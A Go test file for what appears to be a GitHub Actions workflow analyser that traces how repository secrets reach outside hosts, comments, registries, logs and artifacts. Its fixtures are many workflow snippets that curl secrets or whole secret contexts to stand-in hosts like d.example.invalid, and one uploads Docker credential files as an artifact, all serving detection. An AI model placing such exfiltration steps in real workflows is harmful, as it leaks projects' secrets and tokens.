package workflow

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
)

// sent says what a file sends where: HOST=SECRETS, and WAY>TARGET=SECRETS+LOOT for what leaves by another way.
func sent(f File) string {
	var out []string
	for s := range f.Steps() {
		for _, d := range s.Destinations {
			out = append(out, fmt.Sprintf("%s=%s", d.Host, strings.Join(d.Posted, ",")))
		}
		for _, x := range s.Exits {
			what := strings.Join(x.Secrets, ",")
			for _, l := range x.Loot {
				what += "+" + string(l)
			}
			out = append(out, fmt.Sprintf("%s>%s=%s", x.Way, x.Target, what))
		}
	}
	return strings.Join(out, " ")
}

const oneJob = "on: push\njobs:\n  a:\n    runs-on: x\n"

// Values reach the command that sends them by whatever way there is within a file.
func TestValuesFlow(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"three levels of env, the innermost counts": {"on: push\nenv: {A: \"${{ secrets.OUTER }}\"}\njobs:\n  a:\n    runs-on: x\n    env: {A: \"${{ secrets.MIDDLE }}\"}\n    steps:\n" +
			"      - env: {A: \"${{ secrets.INNER }}\"}\n        run: curl -d \"x=$A\" https://d.example.invalid\n", "d.example.invalid=INNER"},
		"a variable of a variable": {oneJob + "    env: {A: \"${{ secrets.S }}\"}\n    steps:\n      - env: {B: \"${{ env.A }}\"}\n        run: curl -d \"x=$B\" https://d.example.invalid\n", "d.example.invalid=S"},
		"a matrix's host":          {oneJob + "    strategy: {matrix: {h: [d.example], t: [invalid]}}\n    steps:\n      - run: curl -d x=${{ secrets.S }} https://${{ matrix.h }}.${{ matrix.t }}/p\n", "d.example.invalid=S"},
		"a matrix's object":        {oneJob + "    strategy: {matrix: {include: [{to: {host: d.example.invalid}}]}}\n    steps:\n      - run: curl -d x=${{ secrets.S }} https://${{ matrix.to.host }}/p\n", "d.example.invalid=S"},
		"a matrix of hosts": {oneJob + "    strategy: {matrix: {h: [a.example.invalid, b.example.invalid], v: [1, 2]}}\n    steps:\n      - run: curl -d x=${{ secrets.S }} https://${{ matrix.h }}/p\n",
			"a.example.invalid=S b.example.invalid=S"},
		"names by a matrix": {oneJob + "    strategy: {matrix: {n: [ONE, TWO]}}\n    steps:\n      - run: curl -d x=${{ secrets[matrix.n] }} https://d.example.invalid/p\n", "d.example.invalid=ONE,TWO"},
		"names by format": {oneJob + "    strategy: {matrix: {n: [ONE, TWO]}}\n    steps:\n      - run: curl -d x=${{ secrets[format('{0}_TOKEN', matrix.n)] }} https://d.example.invalid/p\n",
			"d.example.invalid=ONE_TOKEN,TWO_TOKEN"},
		"a computed name":    {oneJob + "    steps:\n      - run: curl -d x=${{ secrets[github.event.x] }} https://d.example.invalid/p\n", "d.example.invalid=*"},
		"out of JSON":        {oneJob + "    steps:\n      - run: curl -d x=${{ fromJSON(toJSON(secrets)).DEEP }} https://d.example.invalid/p\n", "d.example.invalid=DEEP"},
		"a literal's format": {oneJob + "    steps:\n      - run: curl -d x=${{ secrets.S }} ${{ format('https://{0}.{1}/p', 'd.example', 'invalid') }}\n", "d.example.invalid=S"},
		"a condition's host": {oneJob + "    steps:\n      - run: curl -d x=${{ secrets.S }} ${{ github.ref == 'x' && 'https://a.example.invalid/' || 'https://b.example.invalid/' }}\n",
			"a.example.invalid=S b.example.invalid=S"},
		"a test gives no secret": {oneJob + "    steps:\n      - run: curl -d x=${{ secrets.S != '' }} https://d.example.invalid/p\n", "d.example.invalid="},
		"the token, by index":    {oneJob + "    steps:\n      - run: curl -d x=${{ github['token'] }} https://d.example.invalid/p\n", "d.example.invalid=GITHUB_TOKEN"},
		"an output of a job": {"on: push\njobs:\n  b:\n    needs: a\n    runs-on: x\n    steps:\n      - run: curl -d x=${{ needs.a.outputs.o }} https://d.example.invalid/p\n  a:\n    runs-on: x\n" +
			"    outputs: {o: \"${{ secrets.S }}\"}\n    steps: [{run: make}]\n", "d.example.invalid=S"},
		"all of another job": {"on: push\njobs:\n  a:\n    runs-on: x\n    outputs: {o: \"${{ secrets.S }}\"}\n    steps: [{run: make}]\n  b:\n    needs: a\n    runs-on: x\n    steps:\n" +
			"      - run: curl -d '${{ toJSON(needs) }}' https://d.example.invalid/p\n", "d.example.invalid=S"},
		"the environment as JSON":   {oneJob + "    env: {A: \"${{ secrets.S }}\"}\n    steps:\n      - run: curl -d '${{ toJSON(env) }}' https://d.example.invalid/p\n", "d.example.invalid=S"},
		"a container's environment": {oneJob + "    container: {image: y, env: {A: \"${{ secrets.S }}\"}}\n    steps:\n      - run: curl -d \"x=$A\" https://d.example.invalid/p\n", "d.example.invalid=S"},
		"an image's arguments":      {oneJob + "    steps:\n      - uses: docker://example/curl:8\n        with: {args: \"-d x=${{ secrets.S }} https://d.example.invalid/p\"}\n", "d.example.invalid=S"},
		"a command for an action":   {oneJob + "    steps:\n      - uses: example/retry@v3\n        env: {A: \"${{ secrets.S }}\"}\n        with: {command: \"curl -d x=$A https://d.example.invalid/p\"}\n", "d.example.invalid=S"},
		"a webhook's message": {oneJob + "    steps:\n      - uses: example/webhook@v3\n        with: {webhook-url: \"https://d.example.invalid/p\", data: \"${{ toJSON(secrets) }}\"}\n",
			"d.example.invalid=*"},
		"a comment":                {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {issue-number: 1, token: \"${{ github.token }}\", body: \"${{ secrets.S }}\"}\n", "comment>1=S"},
		"no secret in the comment": {oneJob + "    steps:\n      - uses: example/create-or-update-comment@v4\n        with: {token: \"${{ secrets.S }}\", body: done}\n", ""},
		"an argument of an image":  {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, build-args: \"T=${{ secrets.S }}\"}\n", "registry>a/b=S"},
		"not stored in the image":  {oneJob + "    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a/b, secrets: \"T=${{ secrets.S }}\"}\n", ""},
		"what a service is told": {oneJob + "    services: {relay: {image: a/b, env: {TO: https://d.example.invalid/p, ALL: \"${{ toJSON(secrets) }}\"}}}\n    steps: [{run: make}]\n",
			"d.example.invalid=*"},
		"a service's own password":   {oneJob + "    services: {db: {image: postgres, env: {PASSWORD: \"${{ secrets.S }}\"}}}\n    steps: [{run: make}]\n", ""},
		"a context in the log":       {oneJob + "    steps:\n      - uses: example/dump-context@v2\n", "log>=+context"},
		"credentials in an artifact": {oneJob + "    steps:\n      - uses: actions/upload-artifact@v4\n        with: {name: logs, path: \"~/.docker/config.json\"}\n", "artifact>logs=+files"},
	} {
		f := Parse([]byte(c.text))
		if got := sent(f); got != c.want || len(f.Problems) > 0 {
			t.Errorf("%s:\ngot  %s %v\nwant %s", name, got, f.Problems, c.want)
		}
	}
}

func TestTriggers(t *testing.T) {
	for text, want := range map[string]string{
		"on: push":                            "push",
		"on: [push, merge_group, discussion]": "push merge_group discussion",
		"on: {push: , issue_comment: {types: [created]}}":                                                              "push issue_comment/created",
		"on: {repository_dispatch: {types: [go]}}":                                                                     "repository_dispatch/go",
		"on: {schedule: [{cron: '1 2 * * *'}, {cron: '3 4 * * *'}]}":                                                   "schedule@1 2 * * *@3 4 * * *",
		"on: {workflow_dispatch: {inputs: {who: {type: choice, options: [a], default: a, required: true}}}}":           "workflow_dispatch?who:choice=a!",
		"on: {workflow_call: {inputs: {n: {type: number}}, secrets: {t: {required: true}}, outputs: {o: {value: x}}}}": "workflow_call?n:number=$t>o",
		"on: {workflow_run: {workflows: [CI], types: [completed], branches: [main]}}":                                  "workflow_run/completed%CI#main",
		"on: {pull_request_target: {branches-ignore: [x], paths: ['a/**'], paths-ignore: [b]}}":                        "pull_request_target-x+a/**~b",
		"on: {push: {tags: ['v*'], tags-ignore: [v0]}}":                                                                "push^v*_v0",
		"on:": "",
	} {
		f := Parse([]byte(text + "\njobs: {a: {runs-on: x, steps: [{run: make}]}}\n"))
		var got []string
		for _, e := range f.Triggers {
			s := e.Event
			for sign, list := range map[string][]string{"/": e.Types} {
				for _, x := range list {
					s += sign + x
				}
			}
			for _, part := range []struct {
				sign string
				list []string
			}{{"@", e.Cron}, {"%", e.Workflows}, {"#", e.Branches}, {"-", e.BranchesIgnore}, {"+", e.Paths}, {"~", e.PathsIgnore}, {"^", e.Tags}, {"_", e.TagsIgnore}} {
				for _, x := range part.list {
					s += part.sign + x
				}
			}
			for _, in := range e.Inputs {
				s += "?" + in.Name + ":" + in.Kind + "=" + in.Default
				if in.Required {
					s += "!"
				}
			}
			for _, x := range e.Secrets {
				s += "$" + x
			}
			for _, x := range e.Outputs {
				s += ">" + x
			}
			got = append(got, s)
		}
		if s := strings.Join(got, " "); s != want {
			t.Errorf("%s: got %q, want %q", text, s, want)
		}
	}
}

func TestPermissions(t *testing.T) {
	for text, want := range map[string]string{
		"":                                 "contents= id-token= stated=false",
		"permissions: read-all\n":          "contents=read id-token=read stated=true",
		"permissions: write-all\n":         "contents=write id-token=write stated=true",
		"permissions: {}\n":                "contents=none id-token=none stated=true",
		"permissions: {id-token: write}\n": "contents=none id-token=write stated=true",
	} {
		f := Parse([]byte("on: push\n" + text + "jobs:\n  a:\n    runs-on: x\n    steps: [{run: make}]\n  b:\n    runs-on: x\n    permissions: {contents: write}\n    steps: [{run: make}]\n"))
		p := f.Jobs[0].Permissions
		if got := fmt.Sprintf("contents=%s id-token=%s stated=%v", p.Grants("contents"), p.Grants("id-token"), p.Stated); got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
		if p := f.Jobs[1].Permissions; p.Grants("contents") != "write" || p.Grants("id-token") != "none" {
			t.Errorf("%q: the job's own: %+v", text, p)
		}
	}
}

func TestNamesByMatrix(t *testing.T) {
	for text, want := range map[string][]string{
		"    name: Build\n": {"Build"},
		"    strategy: {matrix: {os: [u, w], v: [1.0, 2]}}\n":                         {"a (u, 1.0)", "a (u, 2)", "a (w, 1.0)", "a (w, 2)"},
		"    name: T ${{ matrix.v }}\n    strategy: {matrix: {v: [1, 2]}}\n":          {"T 1", "T 2"},
		"    strategy: {matrix: {os: [u, w], v: [1, 2], exclude: [{os: w, v: 2}]}}\n": {"a (u, 1)", "a (u, 2)", "a (w, 1)"},
		"    strategy: {matrix: {os: [u], include: [{os: u, x: y}, {os: m}]}}\n":      {"a (m)", "a (u, y)"},
		"    strategy: {matrix: {include: [{os: u, x: 1}, {os: m, x: 2}]}}\n":         {"a (m, 2)", "a (u, 1)"},
		"    strategy: {matrix: \"${{ fromJSON(needs.x.outputs.m) }}\"}\n":            nil,
		"    name: ${{ github.ref }}\n":                                               nil,
	} {
		j := Parse([]byte("on: push\njobs:\n  a:\n    runs-on: ${{ matrix.os }}\n" + text + "    steps: [{run: make}]\n")).Jobs[0]
		if !slices.Equal(j.Names, want) {
			t.Errorf("%s: %q, want %q", text, j.Names, want)
		}
	}
	j := Parse([]byte("on: push\njobs:\n  a:\n    runs-on: [self-hosted, \"${{ matrix.os }}\"]\n    strategy: {matrix: {os: [u, w]}}\n    steps: [{run: make}]\n")).Jobs[0]
	if !slices.Equal(j.RunsOn, []string{"self-hosted", "u", "w"}) {
		t.Errorf("runs on %q", j.RunsOn)
	}
}

func TestSettingsOfJobs(t *testing.T) {
	f := Parse([]byte("name: N\nrun-name: R ${{ github.actor }}\non: push\nconcurrency: all\njobs:\n  a:\n    runs-on: x\n    needs: [b, c]\n    if: github.ref == 'x'\n    timeout-minutes: 7\n" +
		"    continue-on-error: ${{ matrix.e }}\n    environment: {name: \"${{ inputs.where }}\", url: https://site.example.invalid}\n    concurrency: {group: \"g-${{ github.ref }}\", cancel-in-progress: true}\n" +
		"    defaults: {run: {shell: bash, working-directory: sub}}\n    steps:\n      - {run: make, if: always(), continue-on-error: true}\n      - uses: Example/Action/sub@0123456789012345678901234567890123456789\n"))
	j := f.Jobs[0]
	got := fmt.Sprint(f.RunName, f.Concurrency, j.Needs, j.If, j.Timeout, j.ContinueOnError, j.Environment, j.EnvironmentURL, j.Concurrency, j.Steps[0].Shell, j.Steps[0].If, j.Steps[0].ContinueOnError,
		j.Steps[1].Action.Name(), j.Steps[1].Action.Pinned(), j.Steps[1].Action.Line)
	if want := "R ${{ github.actor }}{all } [b c]github.ref == 'x'7${{ matrix.e }}${{ inputs.where }}https://site.example.invalid{g-${{ github.ref }} true}bashalways()trueexample/action/subtrue 17"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	for uses, want := range map[string]Action{
		"docker://example.invalid:5000/a/b:1.2":   {Path: "example.invalid:5000/a/b", Ref: "1.2", Image: true},
		"docker://a@sha256:00":                    {Path: "a", Ref: "sha256:00", Image: true},
		"./.github/actions/x":                     {Path: ".github/actions/x", Local: true},
		"o/r@v1":                                  {Owner: "o", Repo: "r", Ref: "v1"},
		"o/r/.github/workflows/x.yml@refs/tags/v": {Owner: "o", Repo: "r", Path: ".github/workflows/x.yml", Ref: "refs/tags/v"},
	} {
		if got := action(uses, 0); got != want {
			t.Errorf("%s: %+v", uses, got)
		}
	}
}

// What a file calls in its own repository is part of what it does.
func TestCalledFiles(t *testing.T) {
	files := map[string]string{
		".github/workflows/called.yml": "on:\n  workflow_call:\n    inputs: {to: {type: string, default: https://default.example.invalid/p}}\n    secrets: {tok: {required: true}}\n    outputs: {o: {value: \"${{ jobs.b.outputs.o }}\"}}\n" +
			"jobs:\n  b:\n    runs-on: x\n    outputs: {o: \"${{ secrets.tok }}\"}\n    steps:\n      - run: curl -d x=${{ secrets.tok }} ${{ inputs.to }}\n",
		".github/workflows/loop.yml":    "on: {workflow_call: }\njobs:\n  l:\n    uses: ./.github/workflows/loop.yml\n",
		".github/workflows/push.yml":    "on: push\njobs: {a: {runs-on: x, steps: [{run: make}]}}\n",
		".github/actions/go/action.yml": "name: go\ninputs:\n  t: {default: none}\noutputs: {o: {value: \"${{ inputs.t }}\"}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env: {T: \"${{ inputs.t }}\"}\n      run: curl -d x=$T https://d.example.invalid/p\n",
		"js/action.yaml":                "runs: {using: node20, main: index.js}\n",
	}
	lookup := func(path string) ([]byte, bool) { text, ok := files[path]; return []byte(text), ok }
	for name, c := range map[string]struct{ jobs, sent, local string }{
		"secrets by name": {"  c:\n    uses: ./.github/workflows/called.yml\n    secrets: {tok: \"${{ secrets.NPM }}\"}\n    with: {to: https://d.example.invalid/p}\n",
			"d.example.invalid=NPM", ".github/workflows/called.yml:4:true:"},
		"inherited, with a default": {"  c:\n    uses: ./.github/workflows/called.yml\n    secrets: inherit\n", "default.example.invalid=TOK", ".github/workflows/called.yml:4:true:"},
		"its output": {"  c:\n    uses: ./.github/workflows/called.yml\n    secrets: {tok: \"${{ secrets.NPM }}\"}\n  d:\n    needs: c\n    runs-on: x\n    steps: [{run: \"curl -d x=${{ needs.c.outputs.o }} https://e.example.invalid/p\"}]\n",
			"default.example.invalid=NPM e.example.invalid=NPM", ".github/workflows/called.yml:4:true:"},
		"in a circle":      {"  c:\n    uses: ./.github/workflows/loop.yml\n", "", ".github/workflows/loop.yml:4:true: .github/workflows/loop.yml:3:false:calls itself"},
		"not to be called": {"  c:\n    uses: ./.github/workflows/push.yml\n", "", ".github/workflows/push.yml:4:false:is not started by workflow_call"},
		"not at hand":      {"  c:\n    uses: ./.github/workflows/none.yml\n", "", ".github/workflows/none.yml:4:false:its text is not at hand"},
		"of others":        {"  c:\n    uses: o/r/.github/workflows/x.yml@v1\n    secrets: inherit\n", "", ""},
		"an action's steps": {"  c:\n    runs-on: x\n    steps:\n      - id: g\n        uses: ./.github/actions/go\n        with: {t: \"${{ secrets.NPM }}\"}\n      - run: curl -d x=${{ steps.g.outputs.o }} https://e.example.invalid/p\n",
			"d.example.invalid=NPM e.example.invalid=NPM", ".github/actions/go:6:true:"},
		"an action's program": {"  c:\n    runs-on: x\n    steps:\n      - uses: ./js\n", "", "js:6:false:is an action that is no list of steps"},
	} {
		f := new(Parser).ParseWith([]byte("on: push\njobs:\n"+c.jobs), lookup)
		var local []string
		for _, l := range f.Local {
			local = append(local, fmt.Sprintf("%s:%d:%v:%s", l.Path, l.Line, l.Read, l.Why))
		}
		if got := sent(f); got != c.sent || strings.Join(local, " ") != c.local {
			t.Errorf("%s: got %q %q %v\nwant %q %q", name, got, local, f.Problems, c.sent, c.local)
		}
	}
	f := new(Parser).ParseWith([]byte("on: push\njobs:\n  c:\n    uses: ./.github/workflows/called.yml\n    secrets: inherit\n"), lookup)
	if j := f.Jobs[1]; j.ID != "c / b" || j.Name != "c / b" || j.Via != ".github/workflows/called.yml" || j.Line != 3 || j.Steps[0].Destinations[0].Line != 3 || !slices.Equal(j.Names, []string{"c / b"}) {
		t.Errorf("the called job: %+v", j)
	}
	for _, key := range slices.Sorted(maps.Keys(files)) { // whatever calls whatever ends
		new(Parser).ParseWith([]byte(files[key]), func(string) ([]byte, bool) { return []byte(files[key]), true })
	}
}

// A file that is broken is still searched, and says that it is.
func TestBrokenFiles(t *testing.T) {
	const body = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          curl -d \"x=${{ secrets.S }}\" \\\n            https://d.example.invalid/p\n"
	utf16 := func(s string) string {
		out := "\xff\xfe"
		for _, r := range s {
			out += string([]byte{byte(r), byte(r >> 8)})
		}
		return out
	}
	for name, c := range map[string]struct {
		text    string
		partial bool
		line    int
	}{
		"mark of order":       {"\ufeff" + body, false, 8},
		"UTF-16":              {utf16(body), false, 8},
		"CRLF":                {strings.ReplaceAll(body, "\n", "\r\n"), false, 8},
		"NUL":                 {body + "\x00", true, 8},
		"a tab":               {strings.Replace(body, "    runs-on", "\truns-on", 1), true, 8},
		"an alias of nothing": {body + "x: *none\n", true, 8},
		"a key twice":         {strings.Replace(body, "    steps:", "    steps: [{run: make}]\n    steps:", 1), true, 9},
		"steps of a newer kind": {body[:strings.Index(body, "      - run")] +
			"      - parallel:\n        - env: {X: \"${{ secrets.S }}\"}\n          run: curl -d \"x=$X\" https://d.example.invalid/p\n", true, 8},
		"an action's file": {"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env: {X: \"${{ secrets.S }}\"}\n      run: |\n        echo\n        curl -d \"x=$X\" https://d.example.invalid/p\n", true, 8},
		"no job":           {strings.Replace(body, "jobs:", "job:", 1), true, 8},
		"open brackets":    {"x: [\n" + body, true, 9},
	} {
		f := Parse([]byte(c.text))
		if got := sent(f); got != "d.example.invalid=S" || (f.Partial != "") != c.partial || f.Destinations[0].Line != c.line {
			t.Errorf("%s: %q, partial %q, %+v", name, got, f.Partial, f.Destinations)
		}
		if len(f.Secrets) == 0 || f.Secrets[0].Name != "S" {
			t.Errorf("%s: secrets %+v", name, f.Secrets)
		}
	}
}
